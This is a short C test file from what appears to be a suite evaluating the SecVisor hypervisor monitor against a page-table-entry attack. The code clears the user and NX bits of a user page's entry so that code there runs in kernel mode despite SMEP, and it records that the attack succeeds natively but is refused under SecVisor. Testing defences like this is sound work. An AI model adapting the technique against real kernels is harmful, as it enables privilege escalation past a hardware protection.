// Row 6. The user bit of a user page's entry is cleared, so that SMEP has no objection.
// Source: PTE-flip exploits; see PT-Rand (Davi et al. 2017).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>

ATTACK("user-bit")
{
	u8 *page = user_page();
	u64 value, entry, result;

	memcpy(page, CODE, CODE_LENGTH);
	entry = entry_of((u64)page, &value, 0);
	poke(entry, value & ~USER & ~NX);
	flush((u64)page);
	about_to("call a user page whose entry says it is the kernel's");
	result = call((u64)page);
	if (result == MARK)
		succeeded("a user page, its user bit cleared, ran under SMEP and returned %#x", MARK);
	failed("the call returned %#llx", (unsigned long long)result);
}
